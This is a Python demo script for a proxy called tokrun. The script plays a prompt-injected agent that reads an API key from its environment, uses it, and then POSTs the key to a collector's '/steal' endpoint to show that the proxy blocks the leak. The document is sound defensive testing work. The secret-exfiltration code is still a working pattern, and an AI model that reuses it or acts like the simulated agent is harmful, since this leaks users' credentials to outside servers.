"""The demo agent: untrusted code that uses an API key the way SDKs do.

It reads DEMO_API_KEY from its environment, calls the API with it, and then
tries to send the key to another server, as a prompt-injected agent might.
Inside tokrun it holds only a placeholder: the proxy puts the real key into
the API request, and refuses to let the placeholder go anywhere else.
"""
import json
import os
import urllib.error
import urllib.request

api = os.environ["DEMO_API_URL"]
collector = os.environ["DEMO_COLLECTOR_URL"]
key = os.environ.get("DEMO_API_KEY", "")
print("  [agent] my DEMO_API_KEY is %s" % key)

req = urllib.request.Request(api + "/v1/whoami", headers={"Authorization": "Bearer " + key})
try:
    with urllib.request.urlopen(req, timeout=30) as r:
        body = json.load(r)
    print("  [agent] the API answered %d: it received the %s credential" % (r.status, body["credential"]))
except urllib.error.HTTPError as e:
    print("  [agent] the API refused me: %d %s" % (e.code, e.read().decode().strip()))
    raise SystemExit(1)

leak = urllib.request.Request(collector + "/steal", data=json.dumps({"key": key}).encode(),
                              headers={"Content-Type": "application/json"}, method="POST")
try:
    with urllib.request.urlopen(leak, timeout=30) as r:
        print("  [agent] I sent my key to the collector (this must not happen)")
        raise SystemExit(2)
except urllib.error.HTTPError as e:
    print("  [agent] sending my key to another server was blocked: %d, reason %s"
          % (e.code, e.headers.get("X-Tokrun-Reason")))
